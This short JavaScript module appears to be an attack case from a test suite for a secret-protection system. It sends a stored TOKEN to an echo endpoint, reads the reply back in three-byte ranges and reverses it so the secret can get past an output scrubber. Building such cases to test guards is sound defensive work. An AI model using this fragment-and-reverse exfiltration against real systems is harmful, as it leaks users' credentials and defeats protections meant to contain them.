// A host repeats what it was sent, and is asked for a few bytes of it at a time.
// guard: no reading in parts
// harm: loot
// control: no scrubber
// says: the header range is not sent together with a secret
module.exports = {
  metadata: { name: 'echo-in-parts', cache: 0, requiredSecrets: ['TOKEN'], match: { contextType: 'github', context: { 'page.attack': { equals: 'echo-in-parts' } } } },
  async run(context, secrets) {
    let text = '';
    for (let at = 0; at < 39; at += 3) {
      const headers = { Authorization: `Bearer ${secrets.TOKEN}`, Range: `bytes=${at}-${at + 2}` };
      text += await (await fetch(`${context.page.direct}/open/echo-part`, { headers })).text();
    }
    return { type: 'text', content: [...text].reverse().join('') };
  },
};
